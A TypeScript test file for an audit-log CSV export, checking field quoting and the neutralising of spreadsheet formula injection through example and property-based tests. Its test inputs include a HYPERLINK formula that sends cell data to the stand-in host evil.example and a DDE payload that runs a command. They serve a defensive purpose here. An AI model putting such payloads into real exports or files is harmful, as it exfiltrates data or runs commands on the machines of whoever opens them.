import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { toCsv } from './audit.routes.ts';
import type { AuditEventView } from './audit.types.ts';

const HEADER = ['seq', 'at', 'actorEmail', 'actorOrgName', 'action', 'recordType', 'recordId', 'outcome', 'ip', 'classification', 'detail'];
const DANGEROUS_START = /^[=+\-@\t\r]/;

/** A strict RFC 4180 reader, written for this test: records end in CRLF, quoted fields may hold anything. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  if (!text.endsWith('\r\n')) throw new Error('the file must end with CRLF');
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
        cell += text[i++];
      }
    }
    row.push(cell);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      continue;
    }
    throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return rows;
}

function view(over: Partial<AuditEventView> = {}): AuditEventView {
  return {
    id: '00000000-0000-4000-8000-000000000001',
    seq: 1,
    at: '2026-07-01T12:00:00.000Z',
    actorEmail: 'ana@cisa.gov',
    actorOrgName: 'CISA',
    action: 'finding.create',
    recordType: 'finding',
    recordId: 'f-1',
    outcome: 'success',
    ip: '192.0.2.1',
    detail: { via: 'session' },
    marking: { classification: 'UNCLASSIFIED', compartments: [] },
    ...over,
  };
}

/** The cell a spreadsheet should see for a string value. */
const expectedCell = (s: string | null) => (s === null ? '' : DANGEROUS_START.test(s) ? `'${s}` : s);

describe('toCsv', () => {
  it('writes a header and one CRLF-terminated line per event', () => {
    const csv = toCsv([view(), view({ seq: 2 })]);
    expect(csv.startsWith(`${HEADER.join(',')}\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual(HEADER);
    expect(rows[1]).toEqual(['1', '2026-07-01T12:00:00.000Z', 'ana@cisa.gov', 'CISA', 'finding.create', 'finding', 'f-1', 'success', '192.0.2.1', 'UNCLASSIFIED', '{"via":"session"}']);
    expect(rows[2][0]).toBe('2');
  });

  it('an empty export is just the header', () => {
    expect(toCsv([])).toBe(`${HEADER.join(',')}\r\n`);
  });

  it('nulls are empty cells', () => {
    const rows = parseCsv(toCsv([view({ actorEmail: null, actorOrgName: null, recordType: null, recordId: null, ip: null })]));
    expect(rows[1].slice(2, 4)).toEqual(['', '']);
    expect(rows[1].slice(5, 7)).toEqual(['', '']);
    expect(rows[1][8]).toBe('');
  });

  it('writes the marking as a banner with its compartments', () => {
    const rows = parseCsv(toCsv([view({ marking: { classification: 'TOP SECRET', compartments: ['BENCH', 'HCS'] } })]));
    expect(rows[1][9]).toBe('TOP SECRET//BENCH/HCS');
  });

  it.each([
    ['a comma', 'Acme, Inc.', '"Acme, Inc."'],
    ['a quote', 'the "red" team', '"the ""red"" team"'],
    ['a line feed', 'line1\nline2', '"line1\nline2"'],
    ['a carriage return', 'line1\rline2', '"line1\rline2"'],
    ['CRLF', 'line1\r\nline2', '"line1\r\nline2"'],
    ['only a quote', '"', '""""'],
  ])('quotes a value with %s', (_name, value, encoded) => {
    const csv = toCsv([view({ actorOrgName: value })]);
    expect(csv.split('\r\n')[0]).toBe(HEADER.join(','));
    expect(csv).toContain(`,${encoded},`);
    expect(parseCsv(csv)[1][3]).toBe(value);
  });

  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    '=',
  ])('neutralises a cell starting with a formula character: %j', (value) => {
    for (const field of ['actorEmail', 'actorOrgName', 'action', 'recordType', 'recordId', 'outcome', 'ip'] as const) {
      const rows = parseCsv(toCsv([view({ [field]: value })]));
      const cell = rows[1][HEADER.indexOf(field)];
      expect(cell, field).toBe(`'${value}`);
    }
  });

  it('neutralises formula characters in the detail JSON and the marking too', () => {
    // detail is written as JSON (so it starts with "{"); the values inside keep their text
    const rows = parseCsv(toCsv([view({ detail: { note: '=1+1', '@x': '-1' } })]));
    expect(JSON.parse(rows[1][10])).toEqual({ note: '=1+1', '@x': '-1' });
    expect(rows[1][10]).not.toMatch(DANGEROUS_START);
  });

  it('does not alter harmless leading characters', () => {
    for (const v of ['a=1', ' =1', "'=1", '1-2', 'user@example.com', '#1', '(1)']) {
      expect(parseCsv(toCsv([view({ action: v })]))[1][4]).toBe(v);
    }
  });

  it('a negative number would be neutralised as well (cells are text in a spreadsheet)', () => {
    expect(parseCsv(toCsv([view({ seq: -1 })]))[1][0]).toBe("'-1");
  });

  const nasty = fc.oneof(
    fc.string({ maxLength: 30 }),
    fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', '"', "'", 'a', ' ', 'é', '|', ';'), maxLength: 12 }),
  );
  const eventArb: fc.Arbitrary<AuditEventView> = fc.record({
    id: fc.uuid(),
    seq: fc.nat(),
    at: fc.constant('2026-07-01T12:00:00.000Z'),
    actorEmail: fc.option(nasty),
    actorOrgName: fc.option(nasty),
    action: nasty,
    recordType: fc.option(nasty),
    recordId: fc.option(nasty),
    outcome: nasty,
    ip: fc.option(nasty),
    detail: fc.dictionary(nasty, fc.oneof(nasty, fc.integer(), fc.boolean(), fc.constant(null)), { maxKeys: 3 }),
    marking: fc.record({
      classification: fc.constantFrom('UNCLASSIFIED', 'CUI', 'CONFIDENTIAL', 'SECRET', 'TOP SECRET'),
      compartments: fc.subarray(['BENCH', 'HCS', 'SI']),
    }),
  });

  it('property: any events parse back cell for cell, and no cell starts with a formula character', () => {
    fc.assert(
      fc.property(fc.array(eventArb, { maxLength: 5 }), (events) => {
        const rows = parseCsv(toCsv(events));
        expect(rows).toHaveLength(events.length + 1);
        expect(rows[0]).toEqual(HEADER);
        events.forEach((e, i) => {
          const r = rows[i + 1];
          expect(r).toHaveLength(HEADER.length);
          expect(r[0]).toBe(String(e.seq));
          expect(r[1]).toBe(e.at);
          expect(r[2]).toBe(expectedCell(e.actorEmail));
          expect(r[3]).toBe(expectedCell(e.actorOrgName));
          expect(r[4]).toBe(expectedCell(e.action));
          expect(r[5]).toBe(expectedCell(e.recordType));
          expect(r[6]).toBe(expectedCell(e.recordId));
          expect(r[7]).toBe(expectedCell(e.outcome));
          expect(r[8]).toBe(expectedCell(e.ip));
          expect(r[9]).toBe(e.marking.classification + (e.marking.compartments.length ? `//${e.marking.compartments.join('/')}` : ''));
          expect(JSON.parse(r[10])).toEqual(e.detail);
          for (const cell of r) expect(cell).not.toMatch(DANGEROUS_START);
        });
      }),
      { numRuns: 500 },
    );
  });
});
